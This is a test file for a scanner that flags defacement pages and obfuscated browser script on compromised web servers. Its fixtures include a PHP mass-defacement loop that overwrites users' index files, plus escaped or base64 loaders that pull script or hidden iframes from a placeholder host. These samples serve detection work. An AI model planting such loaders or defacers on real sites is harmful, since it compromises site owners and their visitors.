/**
 * What a compromised site serves its visitors (issue 27): a defacement page added as a new
 * file, and browser script hidden as escaped bytes. Both were missed: no server code in them
 * does anything. Each page here is written anew, beside a near miss a real site serves.
 */
import { describe, expect, it } from 'vitest';
import { announcesHack } from '../../src/findings/defacement.js';
import { hidesBrowserScript } from '../../src/findings/hidden-browser-script.js';
import { isRuleAlarm, topFinding } from '../support/top-finding.js';

/** `text` as JavaScript would spell it byte by byte: `%76%61…` or `\u0076\u0061…`. */
const percent = (text: string) =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const unicode = (text: string) =>
  [...text].map((c) => `\\u00${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const hex = (text: string) =>
  [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const LOADER = `var s=document.createElement('script');s.src='https://cdn.example.test/m.js?n=nb5';document.head.appendChild(s);`;

describe('defacement pages', () => {
  const page = (title: string) =>
    `<!DOCTYPE html><html><head><title>${title}</title></head><body><h2>Your security is low</h2><p>Greetz: all crew</p></body></html>`;

  it('ranks a new page whose title announces the hack high, as external defacement', () => {
    for (const title of ['Hacked By Some Crew', 'h4ck3d-by x', 'Defaced by team', 'Pwned by Neko'])
      expect(topFinding('/var/www/html/hacked.html', page(title))).toMatchObject({
        rule: 'defacement',
        severity: 'high',
        attack: 'T1491.002',
      });
  });

  it('reads a heading and a shared-link title too, and a mass defacer carrying its page', () => {
    expect(announcesHack('<h1 class="glitch">HaCKeD By Crew</h1>')).toBe(true);
    expect(announcesHack('<meta content="HACKED By Crew" property="og:title">')).toBe(true);
    const defacer = `<?php $page = <<<HTML\n${page('Hacked by crew')}\nHTML;\nforeach (scandir('/home') as $d) file_put_contents("/home/$d/public_html/index.php", $page);`;
    expect(topFinding('/var/www/html/tools/m.php', defacer)).toMatchObject({ rule: 'defacement' });
  });

  it('leaves a title saying who owns a site, and news of a hack in the body text', () => {
    expect(announcesHack(page('Domain owned by Example Ltd'))).toBe(false);
    const news = `<html><head><title>Security news</title></head><body><p>The retailer was hacked by a group last week.</p></body></html>`;
    expect(announcesHack(news)).toBe(false);
    expect(isRuleAlarm('/var/www/html/news.html', news)).toBe(false);
  });
});

describe('browser script hidden as escaped bytes', () => {
  it('ranks eval(unescape("%..")), and \\u00 or \\x escapes written into the page, high', () => {
    for (const script of [
      `eval(unescape('${percent(LOADER)}'));`,
      `document.write("${unicode(`<script src="https://cdn.example.test/x.js"></script>`)}");`,
      `document.writeln('${hex(`<iframe src="https://cdn.example.test/" width=0></iframe>`)}');`,
    ]) {
      const html = `<html><body><p>Welcome</p><script>${script}</script></body></html>`;
      expect(topFinding('/var/www/html/index.php', html)).toMatchObject({
        rule: 'hidden-browser-script',
        severity: 'high',
        attack: 'T1608.004',
      });
    }
  });

  it('leaves the classic analytics snippet, which escapes only the tag marks', () => {
    const analytics = `<script>var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`;
    expect(hidesBrowserScript(analytics)).toBe(false);
    expect(isRuleAlarm('/var/www/html/index.html', analytics)).toBe(false);
    // A few escaped bytes (a non-breaking space, a quote) are no hidden script.
    expect(hidesBrowserScript(`document.write("\\u00a0\\u0022Hello\\u0022")`)).toBe(false);
  });

  it('reads a script loaded from a base64 data: URL as the script it decodes to', () => {
    const base64 = (text: string) => Buffer.from(text).toString('base64');
    const hidden = `document.write(unescape('${percent(`<script src="https://cdn.example.test/r.js"></script>`)}'));`;
    // The "codes_iframe" injection: a cookie-gated loader whose script is a data: URL.
    const injected = `<p>Post</p><!--x--><script>var src="data:text/javascript;base64,${base64(hidden)}";if(!document.cookie.match(/seen=/)){document.cookie="seen=1";document.write('<script src="'+src+'"><\\/script>')}</script><!--/x-->`;
    expect(topFinding('/var/www/html/wp-content/post.php', injected)).toMatchObject({
      rule: 'hidden-browser-script',
      severity: 'high',
    });
    // A caching plugin inlines a site's own script as a data: URL: what it decodes to is plain.
    const cached = `<script src="data:text/javascript;base64,${base64(`window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());`)}" defer></script>`;
    expect(hidesBrowserScript(cached)).toBe(false);
    expect(isRuleAlarm('/var/www/html/wp-content/cache/page.html', cached)).toBe(false);
  });
});
